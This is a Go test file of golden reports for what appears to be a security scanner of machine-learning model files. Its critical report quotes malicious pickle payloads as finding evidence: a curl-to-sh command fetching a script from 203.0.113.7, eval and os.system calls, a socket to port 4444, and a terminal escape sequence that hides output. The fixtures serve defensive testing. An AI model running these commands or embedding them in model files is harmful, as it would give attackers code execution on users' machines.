package report

import (
	"time"

	"github.com/violet-mlsecops/violet/finding"
)

// The hand-made reports of the golden tests. Their files and findings are
// deliberately out of order: the writers sort them.

var startedAt = time.Date(2026, 1, 15, 10, 30, 0, 0, time.UTC)

var tool = Tool{
	Name:      "violet",
	Version:   "0.1.0",
	Analyzers: []string{"numpy/1", "pickle/1", "pytorch/1", "safetensors/1", "tar/1", "zip/1"},
}

func at(f finding.Finding, analyzer string) finding.Finding {
	f.Analyzer = analyzer
	return f
}

// cleanReport: a model folder with nothing wrong in it.
func cleanReport() *Report {
	return &Report{
		SchemaVersion: SchemaVersion,
		Tool:          tool,
		StartedAt:     startedAt,
		DurationMS:    842,
		Targets:       []string{"models/bert"},
		FailOn:        finding.High,
		Summary: Summary{
			Files: 3, Scanned: 2, Skipped: 1,
			Formats: map[string]int{"pickle": 1, "pytorch-zip": 1, "safetensors": 1},
			Bytes:   876001234,
		},
		Files: []File{
			{Path: "models/bert/pytorch_model.bin", Size: 438000617, Formats: []string{"pytorch-zip", "pickle"},
				SHA256: "5b4c1f0e7a9d3c2b1a0f9e8d7c6b5a4938271605f4e3d2c1b0a9f8e7d6c5b4a3"},
			{Path: "models/bert/README.md", Size: 2048, Skipped: true},
			{Path: "models/bert/model.safetensors", Size: 437998569, Formats: []string{"safetensors"},
				SHA256: "0f1e2d3c4b5a69788796a5b4c3d2e1f00112233445566778899aabbccddeeff0"},
		},
	}
}

// criticalReport: a PyTorch checkpoint whose pickle, inside the zip, runs
// commands; a tarball with a pickle in a zip in it; and a stray pickle file
// whose evidence tries to rewrite the terminal.
func criticalReport() *Report {
	evil := finding.Location{Path: "models/evil/pytorch_model.bin", Offset: -1}.Child("archive/data.pkl")
	bundle := finding.Location{Path: "downloads/bundle.tar.gz", Offset: -1}.Child("checkpoints/model.pt")
	stray := finding.Location{Path: "notes/my model.pkl", Offset: -1}
	return &Report{
		SchemaVersion: SchemaVersion,
		Tool:          tool,
		StartedAt:     startedAt,
		DurationMS:    1534,
		Targets:       []string{"models", "downloads", "notes"},
		FailOn:        finding.High,
		Summary: Summary{
			Files: 4, Scanned: 4,
			Formats:  map[string]int{"gzip": 1, "numpy": 1, "pickle": 3, "pytorch-zip": 2, "safetensors": 1, "tar": 1},
			Findings: map[string]int{"critical": 3, "high": 1, "medium": 1, "low": 1},
			Bytes:    1210601,
		},
		Files: []File{
			{Path: "notes/my model.pkl", Size: 311, Formats: []string{"pickle"}, Findings: []finding.Finding{
				at(finding.New(finding.PickleUnknownRef, stray.At(2),
					"The pickle imports __main__.Payload, which is not on the allowlist.",
					"__main__.Payload\x1b[2K\r(looks clean)"), "pickle/1"),
			}},
			{Path: "models/evil/pytorch_model.bin", Size: 1048576, Formats: []string{"pytorch-zip", "pickle"}, Findings: []finding.Finding{
				at(finding.New(finding.PickleUnknownCall, evil.At(140),
					"The pickle calls numpy.testing._private.utils.runstring, which is not on the allowlist.",
					"numpy.testing._private.utils.runstring('import os', {})"), "pickle/1"),
				at(finding.New(finding.PickleProcess, evil.At(58),
					"Loading the file calls posix.system with a shell command.",
					"posix.system('curl -s http://203.0.113.7/x | sh')"), "pickle/1"),
				at(finding.New(finding.PickleCodeExec, evil.At(112),
					"Loading the file evaluates Python source with builtins.eval.",
					`builtins.eval("__import__('os').system('id')")`), "pickle/1"),
			}},
			{Path: "models/evil/model.safetensors", Size: 4096, Formats: []string{"safetensors"}},
			{Path: "downloads/bundle.tar.gz", Size: 157618, Formats: []string{"gzip", "tar", "pytorch-zip", "pickle", "numpy"}, Findings: []finding.Finding{
				at(finding.New(finding.NumpyObjectArray, bundle.Child("arrays/labels.npy"),
					"The array has dtype object: loading it unpickles its content.", ""), "numpy/1"),
				at(finding.New(finding.PickleNetwork, bundle.Child("model/data.pkl").At(33),
					"Loading the file opens a network connection.",
					"socket.create_connection(('198.51.100.1', 4444))"), "pickle/1"),
			}},
		},
	}
}

// incompleteReport: nothing at or above the threshold, but an encrypted zip
// member and a malformed NumPy file could not be analyzed.
func incompleteReport() *Report {
	return &Report{
		SchemaVersion: SchemaVersion,
		Tool:          tool,
		StartedAt:     startedAt,
		DurationMS:    97,
		Targets:       []string{"release/archive.zip", "/data/models/broken.npy", "release/weights.safetensors"},
		FailOn:        finding.High,
		Summary: Summary{
			Files: 3, Scanned: 3, Incomplete: 2,
			Formats:  map[string]int{"numpy": 1, "safetensors": 1, "zip": 1},
			Findings: map[string]int{"medium": 2},
			Bytes:    90210,
		},
		Files: []File{
			{Path: "release/weights.safetensors", Size: 81920, Formats: []string{"safetensors"}},
			{Path: "release/archive.zip", Size: 8192, Formats: []string{"zip"}, Incomplete: true, Findings: []finding.Finding{
				at(finding.New(finding.ArchiveEncrypted, finding.Location{Path: "release/archive.zip", Offset: -1}.Child("secret/data.pkl"),
					"The member is encrypted (zip flag bit 0); its content was not analyzed.", ""), "zip/1"),
			}},
			{Path: "/data/models/broken.npy", Size: 98, Formats: []string{"numpy"}, Incomplete: true, Findings: []finding.Finding{
				at(finding.New(finding.FormatMalformed, finding.Location{Path: "/data/models/broken.npy", Offset: 10},
					"The NumPy header length runs past the end of the file.", "header_len=4096, file size 98"), "numpy/1"),
			}},
		},
	}
}

var goldenReports = []struct {
	name   string
	report func() *Report
}{
	{"clean", cleanReport},
	{"critical", criticalReport},
	{"incomplete", incompleteReport},
}
